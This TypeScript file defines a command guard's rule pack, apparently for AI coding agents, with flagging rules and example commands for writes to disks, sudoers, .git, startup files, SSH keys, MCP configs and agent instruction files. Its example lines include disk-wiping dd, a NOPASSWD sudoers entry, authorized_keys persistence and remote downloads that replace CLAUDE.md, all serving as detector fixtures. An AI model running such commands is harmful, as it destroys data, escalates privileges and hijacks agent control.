import { definePack } from '../rule.ts'

export const writes = definePack(
  'filesystem',
  `
write-device: overwrite · catastrophic · passphrase · family write to a device
  * · written is device
  tee|sponge|touch · operands is device
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is device
  cp|mv|install|ln · option:-t|--target-directory is device
  dd · key:of is device
  sed|gsed|perl · has -i|--in-place · operands is device
  curl · option:-o|--output is device
  wget · option:-O|--output-document is device
  ed|ex|vim|vi|nano · operands is device
  tar · option:-f|--file is device
  + dd if=/dev/zero of=/dev/sda ¦ cat image.iso > /dev/sdb ¦ echo x | tee /dev/nvme0n1 ¦ cp image.img /dev/mmcblk0
  - dd if=/dev/zero of=/tmp/img bs=1M count=1 ¦ echo hi > /dev/null ¦ echo hi > /dev/stderr

write-account: weaken · catastrophic · family write to account files
  * · written is account
  tee|sponge|touch · operands is account
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is account
  cp|mv|install|ln · option:-t|--target-directory is account
  dd · key:of is account
  sed|gsed|perl · has -i|--in-place · operands is account
  curl · option:-o|--output is account
  wget · option:-O|--output-document is account
  ed|ex|vim|vi|nano · operands is account
  + echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers ¦ cp p /etc/passwd ¦ echo b > /proc/sysrq-trigger
  + sed -i 's/a/b/' /etc/sudoers
  - cat /etc/passwd ¦ grep root /etc/group ¦ echo sudoers > notes.txt

write-history: overwrite · catastrophic · family write into .git
  * · written is vcs
  tee|sponge|touch · operands is vcs
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is vcs
  cp|mv|install|ln · option:-t|--target-directory is vcs
  dd · key:of is vcs
  sed|gsed|perl · has -i|--in-place · operands is vcs
  curl · option:-o|--output is vcs
  wget · option:-O|--output-document is vcs
  ed|ex|vim|vi|nano · operands is vcs
  + echo x > .git/objects/aa ¦ cp /dev/null .git/index ¦ echo ref > .git/HEAD
  - cat .git/HEAD ¦ echo x > .github/a ¦ git add .

write-vcs-control: weaken · family write into .git
  * · written is vcs-control
  tee|sponge|touch · operands is vcs-control
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is vcs-control
  cp|mv|install|ln · option:-t|--target-directory is vcs-control
  dd · key:of is vcs-control
  sed|gsed|perl · has -i|--in-place · operands is vcs-control
  curl · option:-o|--output is vcs-control
  wget · option:-O|--output-document is vcs-control
  ed|ex|vim|vi|nano · operands is vcs-control
  + echo 'x' > .git/hooks/pre-commit ¦ cp hook.sh .git/hooks/post-checkout ¦ sed -i 's/a/b/' .git/config
  - cat .git/config ¦ ls .git/hooks

write-system: overwrite · family write to system paths
  * · written is system
  tee|sponge|touch · operands is system
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is system
  cp|mv|install|ln · option:-t|--target-directory is system
  dd · key:of is system
  sed|gsed|perl · has -i|--in-place · operands is system
  curl · option:-o|--output is system
  wget · option:-O|--output-document is system
  ed|ex|vim|vi|nano · operands is system
  tar|gtar|bsdtar · has -x|--extract · option:-C|--directory is root
  unzip|7z|7za · option:-d|-o is root
  + echo '1.2.3.4 a' >> /etc/hosts ¦ cp tool /usr/bin/tool ¦ wget -O /usr/x.py http://a.b/x.py
  + echo 0 > /proc/sys/kernel/yama/ptrace_scope
  - cat /etc/hosts ¦ cp /etc/hosts . ¦ ls > /tmp/out ¦ cp /usr/share/dict/words words

write-startup: weaken · family write to startup files
  * · written is startup
  tee|sponge|touch · operands is startup
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is startup
  cp|mv|install|ln · option:-t|--target-directory is startup
  dd · key:of is startup
  sed|gsed|perl · has -i|--in-place · operands is startup
  curl · option:-o|--output is startup
  wget · option:-O|--output-document is startup
  ed|ex|vim|vi|nano · operands is startup
  + echo 'alias ls=x' >> ~/.bashrc ¦ cat key.pub >> ~/.ssh/authorized_keys ¦ ln -sf /dev/null ~/.bash_history
  + curl https://a.b/c > ~/.zshrc
  - cat ~/.bashrc ¦ grep PATH ~/.profile ¦ cp ~/.bashrc /tmp/b ¦ echo x > bashrc.txt

write-secret: overwrite · family write over keys
  * · written is secret · place local
  tee|sponge|touch · operands is secret · place local
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is secret · place local
  cp|mv|install|ln · option:-t|--target-directory is secret · place local
  dd · key:of is secret · place local
  sed|gsed|perl · has -i|--in-place · operands is secret · place local
  curl · option:-o|--output is secret · place local
  wget · option:-O|--output-document is secret · place local
  ed|ex|vim|vi|nano · operands is secret · place local
  + echo x > ~/.ssh/id_rsa ¦ cp other ~/.aws/credentials
  - ssh-keygen -lf ~/.ssh/id_rsa.pub ¦ ls ~/.ssh ¦ echo x > key.md

write-tooling: weaken · family write agent tools
  * · written is tooling
  tee|sponge|touch · operands is tooling
  cp|mv|install|rsync|scp|ln · lacks --help|-n|--dry-run · operands 2-999 · last is tooling
  cp|mv|install|ln · option:-t|--target-directory is tooling
  dd · key:of is tooling
  sed|gsed|perl · has -i|--in-place · operands is tooling
  curl · option:-o|--output is tooling
  wget · option:-O|--output-document is tooling
  ed|ex|vim|vi|nano · operands is tooling
  + echo '{}' > .mcp.json ¦ sed -i 's/a/b/' .cursor/mcp.json
  - cat .mcp.json ¦ echo x > mcp.md ¦ cp .mcp.json /tmp/m.json

download-instructions: execute-remote · external · family download instructions · about operands
  curl|wget · http output instructions
  curl|wget|http|xh · written is instructions
  cp|mv · words /tmp/*|/var/tmp/*|/dev/shm/* · operands 2-2 · last is instructions
  + curl -o CLAUDE.md https://a.b/c.md ¦ wget -O .cursorrules https://a.b/c ¦ cp /tmp/x.md AGENTS.md
  - curl -o README.md https://a.b/c.md ¦ cp CLAUDE.md docs/ ¦ cat CLAUDE.md
`,
)
